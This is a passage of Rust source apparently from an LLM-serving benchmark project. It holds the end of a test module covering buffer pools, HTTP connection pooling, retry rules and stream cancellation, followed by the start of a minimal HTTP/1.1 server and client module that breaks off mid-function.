        assert!(matches!(err, HttpError::BadResponse(_)), "{err}");
        let err = read_all_chunks(b"zzz\r\n").unwrap_err();
        assert!(matches!(err, HttpError::BadResponse(_)), "{err}");
        // EOF before any size line.
        let err = read_all_chunks(b"").unwrap_err();
        assert!(matches!(err, HttpError::BadResponse(_)), "{err}");
    }

    #[test]
    fn buffer_pool_recycles_and_counts() {
        let pool = BufferPool::new(4, 1024 * 1024);
        {
            let mut a = pool.take();
            a.vec_mut().extend_from_slice(b"hello");
            assert_eq!(a.as_slice(), b"hello");
        } // drop returns the buffer
        let b = pool.take();
        assert!(b.is_empty(), "recycled buffers come back cleared");
        drop(b);
        assert_eq!(pool.allocations(), 1, "one fresh buffer ever allocated");
        assert_eq!(pool.reuses(), 1);
        // Buffers beyond the retain cap are dropped, not pooled.
        let small = BufferPool::new(4, 8);
        {
            let mut big = small.take();
            big.vec_mut().resize(4096, 0);
        }
        let again = small.take();
        assert_eq!(small.allocations(), 2, "oversized buffer was not pooled");
        drop(again);
    }

    #[test]
    fn pooled_buf_static_and_owned_variants() {
        let s = PooledBuf::from_static(b"data: [DONE]\n\n");
        assert_eq!(s.as_slice(), b"data: [DONE]\n\n");
        let mut s = s;
        s.vec_mut().push(b'!');
        assert_eq!(s.as_slice().last(), Some(&b'!'));
        let v: PooledBuf = vec![1u8, 2, 3].into();
        assert_eq!(v.len(), 3);
    }

    #[test]
    fn write_chunk_batch_emits_valid_chunked_encoding() {
        let chunks: Vec<PooledBuf> = vec![
            b"alpha".to_vec().into(),
            b"b".to_vec().into(),
            vec![b'c'; 300].into(),
        ];
        let mut wire = Vec::new();
        write_chunk_batch(&mut wire, &chunks).unwrap();
        wire.extend_from_slice(b"0\r\n\r\n");
        let parsed = read_all_chunks(&wire).unwrap();
        assert_eq!(parsed.len(), 3);
        assert_eq!(parsed[0], b"alpha");
        assert_eq!(parsed[1], b"b");
        assert_eq!(parsed[2], vec![b'c'; 300]);
    }

    #[test]
    fn relay_roundtrip_reuses_pooled_buffers() {
        let server = Server::serve(
            "127.0.0.1:0",
            "relay",
            2,
            Arc::new(|_req: &Request| {
                let (resp, tx) = Response::stream(200, 4);
                std::thread::spawn(move || {
                    for i in 0..20 {
                        if tx.send(format!("t{i};").into_bytes().into()).is_err() {
                            break;
                        }
                        // Pace the producer so chunks arrive (and buffers
                        // recycle) one at a time.
                        std::thread::sleep(Duration::from_millis(2));
                    }
                });
                resp
            }),
        )
        .unwrap();
        let pool = BufferPool::new(8, 1024 * 1024);
        let mut client = Client::new(&server.url());
        let mut body = Vec::new();
        let outcome = client
            .relay_until(
                &Request::new("GET", "/s"),
                Some(&pool),
                |status, _| assert_eq!(status, 200),
                |chunk| {
                    body.extend_from_slice(chunk.as_slice());
                    true
                },
            )
            .unwrap();
        assert_eq!(outcome, StreamOutcome::Complete);
        let text = String::from_utf8(body).unwrap();
        assert!(text.starts_with("t0;t1;"), "{text}");
        assert!(text.ends_with("t19;"), "{text}");
        assert!(
            pool.reuses() > 0,
            "expected pooled buffer reuse, allocations={} reuses={}",
            pool.allocations(),
            pool.reuses()
        );
        assert!(
            pool.allocations() <= 4,
            "per-chunk allocation defeated the pool: {}",
            pool.allocations()
        );
    }

    #[test]
    fn pool_checkout_reuses_connections_and_counts_hits() {
        let server = echo_server();
        let pool = HttpPool::new(HttpPoolConfig {
            max_per_peer: 4,
            max_total: 8,
            ..Default::default()
        });
        for i in 0..10 {
            let mut conn = pool.checkout(&server.url()).unwrap();
            assert_eq!(conn.get(&format!("/r{i}")).unwrap().status, 200);
        }
        assert_eq!(pool.misses(), 1, "one fresh slot ever claimed");
        assert_eq!(pool.hits(), 9, "every later checkout reused it");
        assert_eq!(pool.open_connections(), 1);
        assert_eq!(pool.idle_connections(), 1);
    }

    #[test]
    fn pool_bounds_growth_under_512_concurrent_checkouts() {
        // No server needed: the dial is lazy, so checkout/checkin alone
        // exercises the slot accounting the caps bound.
        let pool = HttpPool::new(HttpPoolConfig {
            max_per_peer: 16,
            max_total: 16,
            checkout_timeout: Duration::from_secs(30),
            ..Default::default()
        });
        let peak = Arc::new(AtomicU64::new(0));
        let mut handles = Vec::new();
        for _ in 0..512 {
            let pool = pool.clone();
            let peak = peak.clone();
            handles.push(std::thread::spawn(move || {
                let conn = pool.checkout("127.0.0.1:9").unwrap();
                peak.fetch_max(pool.open_connections() as u64, Ordering::Relaxed);
                std::thread::sleep(Duration::from_micros(200));
                drop(conn);
            }));
        }
        for h in handles {
            h.join().unwrap();
        }
        assert!(
            peak.load(Ordering::Relaxed) <= 16,
            "open slots exceeded the cap: {}",
            peak.load(Ordering::Relaxed)
        );
        assert_eq!(pool.open_connections(), 0, "every slot returned");
        assert_eq!(pool.misses(), 512);
        assert_eq!(
            pool.recycles(),
            512,
            "never-dialed checkouts are discarded, not parked"
        );
    }

    #[test]
    fn pool_hammer_keeps_open_sockets_at_or_below_caps() {
        let server = Server::serve(
            "127.0.0.1:0",
            "hammer",
            16,
            Arc::new(|_req: &Request| Response::text(200, "ok")),
        )
        .unwrap();
        let pool = HttpPool::new(HttpPoolConfig {
            max_per_peer: 8,
            max_total: 8,
            checkout_timeout: Duration::from_secs(30),
            ..Default::default()
        });
        let url = server.url();
        let violations = Arc::new(AtomicU64::new(0));
        let mut handles = Vec::new();
        for _ in 0..24 {
            let pool = pool.clone();
            let url = url.clone();
            let violations = violations.clone();
            handles.push(std::thread::spawn(move || {
                for _ in 0..20 {
                    let mut conn = pool.checkout(&url).unwrap();
                    assert_eq!(conn.get("/x").unwrap().status, 200);
                    if pool.open_connections() > 8 {
                        violations.fetch_add(1, Ordering::Relaxed);
                    }
                }
            }));
        }
        for h in handles {
            h.join().unwrap();
        }
        assert_eq!(violations.load(Ordering::Relaxed), 0, "socket cap violated");
        assert!(pool.idle_connections() <= 8);
        let total = pool.hits() + pool.misses();
        assert_eq!(total, 24 * 20);
        assert!(
            pool.hits() as f64 / total as f64 > 0.9,
            "steady-state hit ratio too low: {}/{}",
            pool.hits(),
            total
        );
    }

    #[test]
    fn pool_sweeps_expired_idle_connections() {
        let server = echo_server();
        let pool = HttpPool::new(HttpPoolConfig {
            idle_ttl: Duration::from_millis(30),
            ..Default::default()
        });
        {
            let mut conn = pool.checkout(&server.url()).unwrap();
            conn.get("/x").unwrap();
        }
        assert_eq!(pool.idle_connections(), 1);
        std::thread::sleep(Duration::from_millis(60));
        pool.sweep();
        assert_eq!(pool.idle_connections(), 0, "expired idle conn closed");
        assert_eq!(pool.open_connections(), 0);
        assert_eq!(pool.evictions(), 1);
    }

    #[test]
    fn pool_recycles_errored_connections_instead_of_requeueing() {
        let mut server = echo_server();
        let pool = HttpPool::new(HttpPoolConfig::default());
        {
            let mut conn = pool.checkout(&server.url()).unwrap();
            conn.get("/x").unwrap();
        }
        let url = server.url();
        server.stop(); // severs the parked keep-alive socket
        let mut conn = pool.checkout(&url).unwrap();
        assert!(conn.get("/y").is_err(), "server is gone");
        drop(conn);
        assert_eq!(pool.idle_connections(), 0, "poisoned conn not re-queued");
        assert!(pool.recycles() >= 1);
        assert!(
            pool.evictions() >= 1,
            "dead parked conn evicted by the liveness probe"
        );
    }

    #[test]
    fn streaming_checkout_returns_conn_only_after_clean_drain() {
        let server = Server::serve(
            "127.0.0.1:0",
            "stream-pool",
            2,
            Arc::new(|_req: &Request| {
                let (resp, tx) = Response::stream(200, 8);
                std::thread::spawn(move || {
                    for i in 0..5 {
                        if tx.send(format!("tok{i};").into_bytes().into()).is_err() {
                            break;
                        }
                        std::thread::sleep(Duration::from_millis(2));
                    }
                });
                resp
            }),
        )
        .unwrap();
        let pool = HttpPool::new(HttpPoolConfig::default());
        {
            let mut conn = pool.checkout(&server.url()).unwrap();
            let outcome = conn
                .send_streaming_until(&Request::new("GET", "/s"), |_, _| {}, |_| true)
                .unwrap();
            assert_eq!(outcome, StreamOutcome::Complete);
            assert_eq!(
                pool.idle_connections(),
                0,
                "conn comes back at guard drop, not mid-stream"
            );
        }
        assert_eq!(pool.idle_connections(), 1, "clean drain → parked");
        {
            let mut conn = pool.checkout(&server.url()).unwrap();
            let outcome = conn
                .send_streaming_until(&Request::new("GET", "/s"), |_, _| {}, |_| false)
                .unwrap();
            assert_eq!(outcome, StreamOutcome::Aborted);
        }
        assert_eq!(
            pool.idle_connections(),
            0,
            "a connection that carried an aborted stream is discarded"
        );
        assert_eq!(pool.hits(), 1, "second stream rode the parked conn");
        assert!(pool.recycles() >= 1);
    }

    #[test]
    fn disabled_pool_hands_out_unpooled_connections() {
        let server = echo_server();
        let pool = HttpPool::new(HttpPoolConfig {
            enabled: false,
            ..Default::default()
        });
        for _ in 0..3 {
            let mut conn = pool.checkout(&server.url()).unwrap();
            conn.get("/x").unwrap();
        }
        assert_eq!(pool.hits(), 0);
        assert_eq!(pool.misses(), 3);
        assert_eq!(pool.idle_connections(), 0);
        assert_eq!(pool.open_connections(), 0);
    }

    #[test]
    fn pool_metrics_export_per_peer_counters() {
        let server = echo_server();
        let pool = HttpPool::new(HttpPoolConfig::default());
        for _ in 0..2 {
            let mut conn = pool.checkout(&server.url()).unwrap();
            conn.get("/x").unwrap();
        }
        let peer = server.addr().to_string();
        let text = pool.prometheus_text();
        assert!(
            text.contains(&format!("http_pool_hits_total{{peer=\"{peer}\"}} 1")),
            "{text}"
        );
        assert!(
            text.contains(&format!("http_pool_misses_total{{peer=\"{peer}\"}} 1")),
            "{text}"
        );
        assert!(
            text.contains(&format!("http_pool_evictions_total{{peer=\"{peer}\"}} 0")),
            "{text}"
        );
        assert!(text.contains("http_pool_open_total 1"), "{text}");
    }

    /// Serves each accepted connection exactly one request, then closes it
    /// — the stale-keep-alive scenario the retry policy is about.
    fn one_shot_server(served: Arc<AtomicU64>) -> SocketAddr {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let addr = listener.local_addr().unwrap();
        std::thread::spawn(move || {
            for stream in listener.incoming() {
                let Ok(mut s) = stream else { break };
                let mut reader = BufReader::new(s.try_clone().unwrap());
                if let Ok(Some(_)) = read_request(&mut reader) {
                    served.fetch_add(1, Ordering::Relaxed);
                    let _ = s.write_all(b"HTTP/1.1 200 OK\r\ncontent-length: 2\r\n\r\nok");
                }
            }
        });
        addr
    }

    #[test]
    fn send_never_replays_a_committed_post_on_a_stale_conn() {
        let served = Arc::new(AtomicU64::new(0));
        let addr = one_shot_server(served.clone());
        let mut client = Client::new(&addr.to_string());
        let first = client.post_json("/a", &Json::obj().set("n", 1u64)).unwrap();
        assert_eq!(first.status, 200);
        // The server closed the socket after responding; give the FIN
        // time to arrive so the staleness is real, not a race.
        std::thread::sleep(Duration::from_millis(50));
        let second = client.post_json("/a", &Json::obj().set("n", 2u64));
        assert!(
            second.is_err(),
            "a committed POST must not be blindly resent"
        );
        assert_eq!(
            served.load(Ordering::Relaxed),
            1,
            "the POST was not duplicated"
        );
    }

    #[test]
    fn send_retries_idempotent_get_on_a_stale_conn() {
        let served = Arc::new(AtomicU64::new(0));
        let addr = one_shot_server(served.clone());
        let mut client = Client::new(&addr.to_string());
        assert_eq!(client.get("/a").unwrap().status, 200);
        std::thread::sleep(Duration::from_millis(50));
        let second = client.get("/b").unwrap();
        assert_eq!(second.status, 200, "GET retries on a clean early close");
        assert_eq!(served.load(Ordering::Relaxed), 2);
    }

    #[test]
    fn send_retries_when_the_request_write_never_committed() {
        let served = Arc::new(AtomicU64::new(0));
        let count = served.clone();
        let server = Server::serve(
            "127.0.0.1:0",
            "precommit",
            2,
            Arc::new(move |_req: &Request| {
                count.fetch_add(1, Ordering::Relaxed);
                Response::text(200, "ok")
            }),
        )
        .unwrap();
        let mut client = Client::new(&server.url());
        assert_eq!(client.get("/a").unwrap().status, 200);
        // Sever our side of the cached connection: the next write fails
        // before the request commits, so even a POST may retry.
        client
            .conn
            .as_ref()
            .unwrap()
            .get_ref()
            .shutdown(std::net::Shutdown::Both)
            .unwrap();
        let resp = client
            .post_json("/b", &Json::obj().set("n", 1u64))
            .expect("pre-commit write failure retries on a fresh dial");
        assert_eq!(resp.status, 200);
        assert_eq!(served.load(Ordering::Relaxed), 2);
    }

    #[test]
    fn client_abort_cancels_the_stream_token() {
        let token_slot: Arc<std::sync::Mutex<Option<crate::util::streaming::CancelToken>>> =
            Arc::new(std::sync::Mutex::new(None));
        let handler_slot = token_slot.clone();
        let server = Server::serve(
            "127.0.0.1:0",
            "cancel",
            2,
            Arc::new(move |_req: &Request| {
                let token = crate::util::streaming::CancelToken::new();
                *handler_slot.lock().unwrap() = Some(token.clone());
                let (resp, tx) = Response::stream(200, 2);
                let producer_token = token.clone();
                std::thread::spawn(move || {
                    // Emit forever until the write side reports disconnect.
                    let mut i = 0u64;
                    while !producer_token.is_cancelled() {
                        // Large chunks defeat OS socket buffering so the
                        // write failure surfaces promptly.
                        let chunk = vec![b'x'; 64 * 1024];
                        if tx.send(chunk.into()).is_err() {
                            break;
                        }
                        i += 1;
                        if i > 10_000 {
                            break; // safety valve
                        }
                    }
                });
                resp.with_stream_cancel(token)
            }),
        )
        .unwrap();
        let mut client = Client::new(&server.url());
        let mut seen = 0usize;
        let outcome = client
            .send_streaming_until(
                &Request::new("GET", "/s"),
                |status, _| assert_eq!(status, 200),
                |_chunk| {
                    seen += 1;
                    seen < 3 // hang up after a few chunks
                },
            )
            .unwrap();
        assert_eq!(outcome, StreamOutcome::Aborted);
        let token = token_slot.lock().unwrap().clone().expect("token minted");
        let deadline = std::time::Instant::now() + Duration::from_secs(5);
        while !token.is_cancelled() {
            assert!(
                std::time::Instant::now() < deadline,
                "disconnect never detected"
            );
            std::thread::sleep(Duration::from_millis(10));
        }
    }
}
