//! Minimal HTTP/1.1 over `std::net`: server, client, keep-alive, chunked
//! transfer encoding and SSE streaming.
//!
//! Every network hop in the architecture (user → auth → gateway → webapp →
//! HPC proxy, and GPU-node LLM servers) speaks this implementation, so the
//! latency/throughput benches measure real sockets, real parsing and real
//! framing — not in-process shortcuts.
//!
//! Scope: request line + headers + fixed-length or chunked bodies. No TLS
//! (the paper's TLS terminates at Apache; we model that hop's cost in the
//! latency config instead), no HTTP/2, no trailers.

use std::collections::HashMap;
use std::io::{BufRead, BufReader, Read, Write};
use std::net::{SocketAddr, TcpListener, TcpStream, ToSocketAddrs};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::mpsc::{Receiver, RecvTimeoutError, SyncSender};
use std::sync::Arc;
use std::time::Duration;

use crate::util::streaming::{CancelToken, StreamStats};
use crate::util::threadpool::ThreadPool;

/// Maximum accepted header block (DoS guard).
const MAX_HEADER_BYTES: usize = 64 * 1024;
/// Maximum accepted body (DoS guard; chat prompts are far below this).
pub const MAX_BODY_BYTES: usize = 8 * 1024 * 1024;

#[derive(Debug, thiserror::Error)]
pub enum HttpError {
    #[error("io: {0}")]
    Io(#[from] std::io::Error),
    #[error("malformed request: {0}")]
    BadRequest(String),
    #[error("malformed response: {0}")]
    BadResponse(String),
    #[error("body too large")]
    BodyTooLarge,
}

/// A parsed HTTP request.
#[derive(Debug, Clone)]
pub struct Request {
    pub method: String,
    /// Path without the query string, e.g. `/v1/chat/completions`.
    pub path: String,
    /// Raw query string (without `?`), may be empty.
    pub query: String,
    /// Header names lowercased.
    pub headers: HashMap<String, String>,
    pub body: Vec<u8>,
    /// Peer address as seen by the server.
    pub peer: Option<SocketAddr>,
}

impl Request {
    pub fn new(method: &str, path: &str) -> Request {
        Request {
            method: method.to_string(),
            path: path.to_string(),
            query: String::new(),
            headers: HashMap::new(),
            body: Vec::new(),
            peer: None,
        }
    }

    pub fn with_body(mut self, body: impl Into<Vec<u8>>) -> Request {
        self.body = body.into();
        self
    }

    pub fn with_header(mut self, name: &str, value: &str) -> Request {
        self.headers.insert(name.to_lowercase(), value.to_string());
        self
    }

    pub fn header(&self, name: &str) -> Option<&str> {
        self.headers.get(&name.to_lowercase()).map(String::as_str)
    }

    pub fn body_str(&self) -> std::borrow::Cow<'_, str> {
        String::from_utf8_lossy(&self.body)
    }

    /// Does this request ask for a streamed (SSE) response? Parses the
    /// JSON body's `stream` field — a substring match would be fooled by
    /// `"stream":false` formatting or `stream` appearing inside message
    /// content. A cheap pre-filter keeps the hot path from JSON-parsing
    /// every proxied body.
    pub fn wants_stream(&self) -> bool {
        let Some(start) = self.body.iter().position(|b| !b.is_ascii_whitespace()) else {
            return false;
        };
        let body = &self.body[start..];
        if body.first() != Some(&b'{') {
            return false;
        }
        if !body.windows(8).any(|w| w == b"\"stream\"") {
            return false;
        }
        crate::util::json::parse(&self.body_str())
            .map(|v| v.bool_field("stream") == Some(true))
            .unwrap_or(false)
    }

    /// Parse `a=b&c=d` query params (no percent-decoding beyond `%20`/`+`).
    pub fn query_params(&self) -> HashMap<String, String> {
        parse_query(&self.query)
    }
}

pub fn parse_query(query: &str) -> HashMap<String, String> {
    let mut out = HashMap::new();
    for pair in query.split('&') {
        if pair.is_empty() {
            continue;
        }
        let (k, v) = pair.split_once('=').unwrap_or((pair, ""));
        out.insert(
            k.to_string(),
            v.replace('+', " ").replace("%20", " ").to_string(),
        );
    }
    out
}

/// A streamed response body: chunks are written as they arrive on the
/// channel; the channel hangup terminates the stream. Written with chunked
/// transfer encoding.
pub struct StreamBody {
    pub rx: Receiver<Vec<u8>>,
    /// Emit a `: heartbeat` SSE comment whenever the producer is idle this
    /// long. Armed only at origin hops (where chunk = whole SSE event);
    /// injecting comments between arbitrary proxied chunks could split an
    /// event mid-line.
    pub heartbeat: Option<Duration>,
    /// Cancelled when writing to the client fails — the write side is the
    /// disconnect detector, and this token is how the producer learns.
    pub cancel: Option<CancelToken>,
    /// A client accepting no bytes for this long is treated as
    /// disconnected (socket write timeout for the streamed body).
    pub stall_timeout: Option<Duration>,
    /// Heartbeat / disconnect counters.
    pub stats: Option<Arc<StreamStats>>,
}

/// Response body: either a full buffer or a lazily produced chunk stream
/// (used for SSE token streaming).
pub enum Body {
    Full(Vec<u8>),
    Stream(StreamBody),
}

impl std::fmt::Debug for Body {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            Body::Full(b) => write!(f, "Body::Full({} bytes)", b.len()),
            Body::Stream(_) => write!(f, "Body::Stream"),
        }
    }
}

/// An HTTP response under construction.
#[derive(Debug)]
pub struct Response {
    pub status: u16,
    pub headers: Vec<(String, String)>,
    pub body: Body,
}

impl Response {
    pub fn new(status: u16) -> Response {
        Response {
            status,
            headers: Vec::new(),
            body: Body::Full(Vec::new()),
        }
    }

    pub fn text(status: u16, body: impl Into<String>) -> Response {
        Response::new(status)
            .with_header("content-type", "text/plain; charset=utf-8")
            .with_body(body.into().into_bytes())
    }

    pub fn json(status: u16, v: &crate::util::json::Json) -> Response {
        Response::new(status)
            .with_header("content-type", "application/json")
            .with_body(v.to_string().into_bytes())
    }

    /// JSON error body in the OpenAI style.
    pub fn error(status: u16, message: &str) -> Response {
        let body = crate::util::json::Json::obj().set(
            "error",
            crate::util::json::Json::obj()
                .set("message", message)
                .set("code", status as u64),
        );
        Response::json(status, &body)
    }

    /// A streaming (chunked) response; returns the sender half for the
    /// producer. Buffered up to `cap` chunks for backpressure.
    pub fn stream(status: u16, cap: usize) -> (Response, SyncSender<Vec<u8>>) {
        let (tx, rx) = std::sync::mpsc::sync_channel(cap);
        (
            Response {
                status,
                headers: Vec::new(),
                body: Body::Stream(StreamBody {
                    rx,
                    heartbeat: None,
                    cancel: None,
                    stall_timeout: None,
                    stats: None,
                }),
            },
            tx,
        )
    }

    /// An SSE event-stream response.
    pub fn sse(cap: usize) -> (Response, SyncSender<Vec<u8>>) {
        let (resp, tx) = Response::stream(200, cap);
        (
            resp.with_header("content-type", "text/event-stream")
                .with_header("cache-control", "no-cache"),
            tx,
        )
    }

    /// Arm write-side SSE heartbeats on a streamed body (origin hops only:
    /// comments are injected between chunks, so chunks must be whole
    /// events).
    pub fn with_heartbeat(mut self, interval: Duration) -> Response {
        if let Body::Stream(sb) = &mut self.body {
            sb.heartbeat = Some(interval);
        }
        self
    }

    /// Cancel `token` when the client disconnects mid-stream.
    pub fn with_stream_cancel(mut self, token: CancelToken) -> Response {
        if let Body::Stream(sb) = &mut self.body {
            sb.cancel = Some(token);
        }
        self
    }

    /// Treat a client that accepts no bytes for `timeout` as disconnected.
    pub fn with_stall_timeout(mut self, timeout: Duration) -> Response {
        if let Body::Stream(sb) = &mut self.body {
            sb.stall_timeout = Some(timeout);
        }
        self
    }

    /// Count heartbeats / disconnects on this stream into `stats`.
    pub fn with_stream_stats(mut self, stats: Arc<StreamStats>) -> Response {
        if let Body::Stream(sb) = &mut self.body {
            sb.stats = Some(stats);
        }
        self
    }

    pub fn with_header(mut self, name: &str, value: &str) -> Response {
        self.headers.push((name.to_string(), value.to_string()));
        self
    }

    pub fn with_body(mut self, body: Vec<u8>) -> Response {
        self.body = Body::Full(body);
        self
    }

    pub fn header(&self, name: &str) -> Option<&str> {
        self.headers
            .iter()
            .find(|(k, _)| k.eq_ignore_ascii_case(name))
            .map(|(_, v)| v.as_str())
    }
}

fn status_text(code: u16) -> &'static str {
    match code {
        200 => "OK",
        201 => "Created",
        204 => "No Content",
        301 => "Moved Permanently",
        302 => "Found",
        400 => "Bad Request",
        401 => "Unauthorized",
        403 => "Forbidden",
        404 => "Not Found",
        405 => "Method Not Allowed",
        408 => "Request Timeout",
        413 => "Payload Too Large",
        429 => "Too Many Requests",
        500 => "Internal Server Error",
        502 => "Bad Gateway",
        503 => "Service Unavailable",
        504 => "Gateway Timeout",
        _ => "Unknown",
    }
}

/// Request handler: borrowed request in, response out.
pub type Handler = Arc<dyn Fn(&Request) -> Response + Send + Sync + 'static>;

/// An HTTP/1.1 server on a dedicated acceptor thread + worker pool.
pub struct Server {
    addr: SocketAddr,
    shutdown: Arc<AtomicBool>,
    acceptor: Option<std::thread::JoinHandle<()>>,
    /// Live connection sockets, severed on `stop()` so keep-alive reads
    /// don't pin the worker pool for their full read timeout.
    sessions: Arc<std::sync::Mutex<Vec<TcpStream>>>,
}

impl Server {
    /// Bind `addr` (use port 0 for an ephemeral port) and serve `handler`
    /// on `workers` pool threads.
    pub fn serve(
        addr: &str,
        name: &str,
        workers: usize,
        handler: Handler,
    ) -> std::io::Result<Server> {
        let listener = TcpListener::bind(addr)?;
        let addr = listener.local_addr()?;
        let shutdown = Arc::new(AtomicBool::new(false));
        let accept_shutdown = shutdown.clone();
        let sessions = Arc::new(std::sync::Mutex::new(Vec::<TcpStream>::new()));
        let accept_sessions = sessions.clone();
        let pool = ThreadPool::new(name, workers);
        let acceptor = std::thread::Builder::new()
            .name(format!("{name}-accept"))
            .spawn(move || {
                for stream in listener.incoming() {
                    if accept_shutdown.load(Ordering::SeqCst) {
                        break;
                    }
                    match stream {
                        Ok(stream) => {
                            if let Ok(clone) = stream.try_clone() {
                                let mut sessions = accept_sessions.lock().unwrap();
                                // Bound the registry: drop closed sockets.
                                if sessions.len() > 1024 {
                                    sessions.retain(|s| s.peer_addr().is_ok());
                                }
                                sessions.push(clone);
                            }
                            let handler = handler.clone();
                            pool.execute(move || {
                                let _ = handle_connection(stream, handler);
                            });
                        }
                        Err(_) => continue,
                    }
                }
                pool.shutdown();
            })?;
        Ok(Server {
            addr,
            shutdown,
            acceptor: Some(acceptor),
            sessions,
        })
    }

    pub fn addr(&self) -> SocketAddr {
        self.addr
    }

    pub fn url(&self) -> String {
        format!("http://{}", self.addr)
    }

    /// Stop accepting, sever idle keep-alive connections and join the
    /// acceptor. In-flight requests are cut.
    pub fn stop(&mut self) {
        if self.shutdown.swap(true, Ordering::SeqCst) {
            return;
        }
        for s in self.sessions.lock().unwrap().drain(..) {
            let _ = s.shutdown(std::net::Shutdown::Both);
        }
        // Wake the blocking accept with a dummy connection.
        let _ = TcpStream::connect(self.addr);
        if let Some(handle) = self.acceptor.take() {
            let _ = handle.join();
        }
    }
}

impl Drop for Server {
    fn drop(&mut self) {
        self.stop();
    }
}

/// Serve requests on one connection until close / keep-alive ends.
fn handle_connection(stream: TcpStream, handler: Handler) -> Result<(), HttpError> {
    stream.set_nodelay(true).ok();
    stream
        .set_read_timeout(Some(Duration::from_secs(30)))
        .ok();
    let peer = stream.peer_addr().ok();
    let mut reader = BufReader::with_capacity(16 * 1024, stream.try_clone()?);
    let mut writer = stream;
    loop {
        let mut req = match read_request(&mut reader) {
            Ok(Some(req)) => req,
            Ok(None) => return Ok(()), // clean EOF between requests
            Err(HttpError::Io(_)) => return Ok(()),
            Err(e) => {
                let resp = Response::error(400, &format!("{e}"));
                let _ = write_response(&mut writer, resp, false);
                return Ok(());
            }
        };
        req.peer = peer;
        let keep_alive = req
            .header("connection")
            .map(|c| !c.eq_ignore_ascii_case("close"))
            .unwrap_or(true);
        let resp = handler(&req);
        // Streamed bodies get a write timeout: a client that stops reading
        // (without closing) would otherwise pin this worker forever once
        // the socket buffer fills. Timeout = disconnect (stall policy).
        let stall = match &resp.body {
            Body::Stream(sb) => sb.stall_timeout,
            Body::Full(_) => None,
        };
        if let Some(t) = stall {
            writer.set_write_timeout(Some(t)).ok();
        }
        let result = write_response(&mut writer, resp, keep_alive);
        if stall.is_some() {
            writer.set_write_timeout(None).ok();
        }
        result?;
        if !keep_alive {
            return Ok(());
        }
    }
}

/// Read one request; `Ok(None)` on immediate EOF (idle keep-alive close).
fn read_request<R: BufRead>(reader: &mut R) -> Result<Option<Request>, HttpError> {
    let mut line = String::new();
    let n = reader.read_line(&mut line)?;
    if n == 0 {
        return Ok(None);
    }
    let line = line.trim_end();
    let mut parts = line.split_whitespace();
    let method = parts
        .next()
        .ok_or_else(|| HttpError::BadRequest("empty request line".into()))?
        .to_string();
    let target = parts
        .next()
        .ok_or_else(|| HttpError::BadRequest("missing target".into()))?;
    let version = parts.next().unwrap_or("HTTP/1.1");
    if !version.starts_with("HTTP/1.") {
        return Err(HttpError::BadRequest(format!("bad version {version}")));
    }
    let (path, query) = match target.split_once('?') {
        Some((p, q)) => (p.to_string(), q.to_string()),
        None => (target.to_string(), String::new()),
    };
    let headers = read_headers(reader)?;
    let body = read_body(reader, &headers)?;
    Ok(Some(Request {
        method,
        path,
        query,
        headers,
        body,
        peer: None,
    }))
}

fn read_headers<R: BufRead>(reader: &mut R) -> Result<HashMap<String, String>, HttpError> {
    let mut headers = HashMap::new();
    let mut total = 0usize;
    loop {
        let mut line = String::new();
        let n = reader.read_line(&mut line)?;
        if n == 0 {
            return Err(HttpError::BadRequest("eof in headers".into()));
        }
        total += n;
        if total > MAX_HEADER_BYTES {
            return Err(HttpError::BadRequest("header block too large".into()));
        }
        let line = line.trim_end();
        if line.is_empty() {
            return Ok(headers);
        }
        let (name, value) = line
            .split_once(':')
            .ok_or_else(|| HttpError::BadRequest(format!("bad header line: {line}")))?;
        headers.insert(name.trim().to_lowercase(), value.trim().to_string());
    }
}

fn read_body<R: BufRead>(
    reader: &mut R,
    headers: &HashMap<String, String>,
) -> Result<Vec<u8>, HttpError> {
    if let Some(te) = headers.get("transfer-encoding") {
        if te.eq_ignore_ascii_case("chunked") {
            return read_chunked_body(reader);
        }
    }
    let len: usize = headers
        .get("content-length")
        .map(|v| {
            v.parse()
                .map_err(|_| HttpError::BadRequest("bad content-length".into()))
        })
        .transpose()?
        .unwrap_or(0);
    if len > MAX_BODY_BYTES {
        return Err(HttpError::BodyTooLarge);
    }
    let mut body = vec![0u8; len];
    reader.read_exact(&mut body)?;
    Ok(body)
}

fn read_chunked_body<R: BufRead>(reader: &mut R) -> Result<Vec<u8>, HttpError> {
    let mut body = Vec::new();
    loop {
        let mut size_line = String::new();
        reader.read_line(&mut size_line)?;
        let size = usize::from_str_radix(size_line.trim(), 16)
            .map_err(|_| HttpError::BadRequest("bad chunk size".into()))?;
        if body.len() + size > MAX_BODY_BYTES {
            return Err(HttpError::BodyTooLarge);
        }
        if size == 0 {
            // trailing CRLF after last chunk
            let mut crlf = String::new();
            reader.read_line(&mut crlf)?;
            return Ok(body);
        }
        let start = body.len();
        body.resize(start + size, 0);
        reader.read_exact(&mut body[start..])?;
        let mut crlf = [0u8; 2];
        reader.read_exact(&mut crlf)?;
    }
}

fn write_response<W: Write>(
    writer: &mut W,
    resp: Response,
    keep_alive: bool,
) -> Result<(), HttpError> {
    let mut head = format!("HTTP/1.1 {} {}\r\n", resp.status, status_text(resp.status));
    let conn = if keep_alive { "keep-alive" } else { "close" };
    head.push_str(&format!("connection: {conn}\r\n"));
    for (k, v) in &resp.headers {
        head.push_str(&format!("{k}: {v}\r\n"));
    }
    match resp.body {
        Body::Full(body) => {
            head.push_str(&format!("content-length: {}\r\n\r\n", body.len()));
            writer.write_all(head.as_bytes())?;
            writer.write_all(&body)?;
            writer.flush()?;
        }
        Body::Stream(sb) => {
            head.push_str("transfer-encoding: chunked\r\n\r\n");
            let result = (|| -> Result<(), HttpError> {
                writer.write_all(head.as_bytes())?;
                writer.flush()?;
                stream_chunks(writer, &sb)?;
                writer.write_all(b"0\r\n\r\n")?;
                writer.flush()?;
                Ok(())
            })();
            if let Err(e) = result {
                // The write side is the disconnect detector: tell the
                // producer so the cancellation propagates upstream.
                if let Some(token) = &sb.cancel {
                    token.cancel();
                }
                if let Some(stats) = &sb.stats {
                    stats
                        .client_disconnects
                        .fetch_add(1, std::sync::atomic::Ordering::Relaxed);
                }
                return Err(e);
            }
        }
    }
    Ok(())
}

/// Pump a streamed body's chunks to the client, emitting `: heartbeat`
/// SSE comments during producer-idle gaps when armed.
fn stream_chunks<W: Write>(writer: &mut W, sb: &StreamBody) -> Result<(), HttpError> {
    loop {
        let chunk = match sb.heartbeat {
            Some(interval) => match sb.rx.recv_timeout(interval) {
                Ok(c) => c,
                Err(RecvTimeoutError::Timeout) => {
